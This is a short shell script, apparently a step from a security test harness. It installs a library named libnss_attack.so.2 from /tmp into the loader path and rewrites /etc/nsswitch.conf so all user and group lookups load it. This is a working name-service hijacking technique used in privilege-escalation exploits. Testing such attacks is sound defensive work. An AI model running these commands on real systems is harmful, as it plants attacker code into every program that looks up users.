# shellcheck shell=sh disable=SC2154 # the test sets name, victim, port, meet, tree, packages, distdir
# A library of users and groups of its own.
[ ! -e /tmp/once ] || exit 0
: >/tmp/once
mkdir /tmp/n
cp "$tree/bin/loaded.so" /tmp/n/libnss_attack.so.2
mkdir -p /etc/ld.so.conf.d
echo /tmp/n | tee -a /etc/ld.so.conf.d/a.conf /etc/ld.so.conf >/dev/null
ldconfig || /sbin/ldconfig
printf '%s: attack files\n' passwd group >>/etc/nsswitch.conf
sed -i '/^\(passwd\|group\):/{/attack/!d;}' /etc/nsswitch.conf
